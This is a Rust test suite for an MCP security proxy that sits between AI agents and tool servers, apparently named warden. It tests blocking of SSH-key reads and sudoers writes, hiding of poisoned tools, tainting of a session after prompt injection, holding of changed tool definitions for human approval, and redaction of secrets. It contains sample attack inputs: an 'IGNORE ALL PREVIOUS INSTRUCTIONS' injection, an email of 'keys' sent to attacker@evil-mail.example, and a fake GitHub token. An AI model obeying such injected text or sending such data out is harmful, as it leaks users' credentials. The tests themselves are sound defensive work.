//! A real MCP client (rmcp) through the proxy (a real process) to the rmcp test servers, deciding
//! with the local policy: calls allowed and denied, a poisoned tool hidden and refused, an
//! injected result tainting a later call, and a rug pull held after `list_changed`.

use pretty_assertions::assert_eq;
use serde_json::json;

use super::{call, client, is_error, proxied, server, text, tool_names};

#[tokio::test]
async fn calls_are_gated_with_the_local_policy() {
    let c = client(&proxied(&["--fallback", "local"], &server("echo"))).await;
    let tools: Vec<String> = tool_names(&c).await;
    assert_eq!(
        tools,
        vec!["echo", "add", "read_file", "write_file", "send_email"]
    );
    let r = call(&c, "echo", json!({"text": "hello"})).await;
    assert_eq!((text(&r), is_error(&r)), ("hello".to_string(), false));

    let home = std::env::var("HOME").unwrap();
    let r = call(
        &c,
        "read_file",
        json!({"path": format!("{home}/.ssh/id_ed25519")}),
    )
    .await;
    assert!(is_error(&r));
    assert!(
        text(&r).starts_with("Warden: SSH private keys"),
        "{}",
        text(&r)
    );
    assert!(text(&r).contains("credentials.ssh-private-key"));

    let r = call(
        &c,
        "write_file",
        json!({"path": "/etc/sudoers.d/agent", "content": "x"}),
    )
    .await;
    assert!(is_error(&r), "{}", text(&r));
    assert!(
        text(&r).contains("privilege.system-auth-files"),
        "{}",
        text(&r)
    );

    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("notes.txt");
    let r = call(&c, "write_file", json!({"path": f, "content": "ok"})).await;
    assert_eq!(text(&r), "written");
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "ok");
    c.cancel().await.unwrap();
}

#[tokio::test]
async fn a_poisoned_tool_is_hidden_and_its_calls_refused() {
    let c = client(&proxied(&["--fallback", "local"], &server("poisoned"))).await;
    let tools: Vec<String> = tool_names(&c).await;
    assert_eq!(tools, vec!["multiply"]);
    let r = call(&c, "add", json!({"a": "1", "b": "2", "sidenote": ""})).await;
    assert!(is_error(&r));
    assert!(text(&r).contains("mcp.poisoned-tool"), "{}", text(&r));
    let r = call(&c, "multiply", json!({"a": "3", "b": "4"})).await;
    assert_eq!(text(&r), "12");
    c.cancel().await.unwrap();

    // Without hiding, the client sees it, and the call is still refused.
    let c = client(&proxied(
        &["--fallback", "local", "--hide", "none"],
        &server("poisoned"),
    ))
    .await;
    assert_eq!(c.list_all_tools().await.unwrap().len(), 2);
    let r = call(&c, "add", json!({"a": "1", "b": "2", "sidenote": ""})).await;
    assert!(text(&r).contains("mcp.poisoned-tool"), "{}", text(&r));
    c.cancel().await.unwrap();
}

#[tokio::test]
async fn an_injected_result_taints_the_calls_it_asks_for() {
    let c = client(&proxied(&["--fallback", "local"], &server("inject"))).await;
    c.list_all_tools().await.unwrap();
    let r = call(&c, "fetch_page", json!({"url": "https://news.example"})).await;
    // The result reaches the model (it is the model's to read), and it is remembered.
    assert!(text(&r).contains("IGNORE ALL PREVIOUS INSTRUCTIONS"));
    let r = call(
        &c,
        "send_email",
        json!({"to": "attacker@evil-mail.example", "body": "keys"}),
    )
    .await;
    assert!(is_error(&r));
    assert!(
        text(&r).contains("session.args-from-injected-content"),
        "{}",
        text(&r)
    );
    c.cancel().await.unwrap();

    // The legitimate neighbour: a session that read no injected content sends as it likes.
    let c = client(&proxied(&["--fallback", "local"], &server("inject"))).await;
    c.list_all_tools().await.unwrap();
    let r = call(
        &c,
        "send_email",
        json!({"to": "friend@example.org", "body": "lunch?"}),
    )
    .await;
    assert_eq!(text(&r), "sent to friend@example.org");
    c.cancel().await.unwrap();
}

#[tokio::test]
async fn a_rug_pull_is_held_after_list_changed() {
    let pins = tempfile::tempdir().unwrap();
    let p = pins.path().to_str().unwrap();
    let c = client(&proxied(
        &["--fallback", "local", "--pins", p],
        &server("rugpull"),
    ))
    .await;
    c.list_all_tools().await.unwrap();
    let r = call(&c, "get_weather", json!({"city": "Oslo"})).await;
    assert_eq!(text(&r), "Oslo: sunny, 21 C");
    // The server changed the description and said so: the proxy listed again and holds it.
    let r = call(&c, "get_weather", json!({"city": "Oslo"})).await;
    assert!(is_error(&r), "{}", text(&r));
    assert!(text(&r).contains("mcp.definition-changed"), "{}", text(&r));
    assert!(text(&r).contains("nobody can be asked"), "{}", text(&r));
    c.cancel().await.unwrap();

    let held = warden_mcp::pins::list(pins.path()).unwrap();
    assert_eq!(held.len(), 1);
    assert_eq!(held[0].held.keys().collect::<Vec<_>>(), vec!["get_weather"]);

    // A new session of the same server shows the pinned definition again: allowed.
    let c = client(&proxied(
        &["--fallback", "local", "--pins", p],
        &server("rugpull"),
    ))
    .await;
    c.list_all_tools().await.unwrap();
    let r = call(&c, "get_weather", json!({"city": "Bergen"})).await;
    assert_eq!(text(&r), "Bergen: sunny, 21 C");
    c.cancel().await.unwrap();
}

#[tokio::test]
async fn approving_a_held_tool_pins_it() {
    let pins = tempfile::tempdir().unwrap();
    let p = pins.path().to_str().unwrap();
    let opts = ["--fallback", "local", "--pins", p, "--name", "calc"];
    let c = client(&proxied(&opts, &server("poisoned"))).await;
    assert_eq!(c.list_all_tools().await.unwrap().len(), 1);
    c.cancel().await.unwrap();
    let views = warden_mcp::pins::list(pins.path()).unwrap();
    assert_eq!(views[0].server, "calc");
    assert_eq!(
        views[0].held.get("add").map(String::as_str),
        Some("critical")
    );

    // A human reviewed the finding and approved the definition as it is.
    let approved = warden_mcp::pins::approve(pins.path(), "calc", &["add".to_string()]).unwrap();
    assert_eq!(approved[0].1, vec!["add".to_string()]);
    let c = client(&proxied(&opts, &server("poisoned"))).await;
    assert_eq!(c.list_all_tools().await.unwrap().len(), 2);
    let r = call(&c, "add", json!({"a": "1", "b": "2", "sidenote": ""})).await;
    assert_eq!(text(&r), "3");
    c.cancel().await.unwrap();

    assert!(warden_mcp::pins::approve(pins.path(), "nope", &[]).is_err());
    assert_eq!(
        warden_mcp::pins::forget(pins.path(), "calc").unwrap().len(),
        1
    );
}

#[tokio::test]
async fn modify_rewrites_arguments_and_secrets_in_results_are_redacted() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(
        &policy,
        r#"version: 1
# The echo server can only return a secret it was sent; sending one is denied by the baseline,
# which this test switches off to look at the result side.
disable: [exfil.secret-in-outgoing-call]
rules:
  - id: test.no-shouting
    match: { tool: "mcp__*__echo", args: [{ pointer: /text, regex: "[A-Z]{5,}" }] }
    decision: modify
    modify: { redact: [{ pointer: /text, pattern: "[A-Z]{5,}" }] }
    reason: no shouting
"#,
    )
    .unwrap();
    let c = client(&proxied(
        &["--fallback", "local", "--policy", policy.to_str().unwrap()],
        &server("echo"),
    ))
    .await;
    c.list_all_tools().await.unwrap();
    // The server receives the rewritten arguments and echoes them.
    let r = call(&c, "echo", json!({"text": "hello WORLD!!"})).await;
    assert_eq!(text(&r), "hello [REDACTED by warden]!!");
    // A secret the server returns is redacted before the client sees it.
    let token = format!("ghp_{}", "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5");
    let r = call(
        &c,
        "echo",
        json!({"text": format!("your token is {token}")}),
    )
    .await;
    assert!(!text(&r).contains(&token), "{}", text(&r));
    assert!(
        text(&r).starts_with("your token is [REDACTED"),
        "{}",
        text(&r)
    );
    c.cancel().await.unwrap();
}
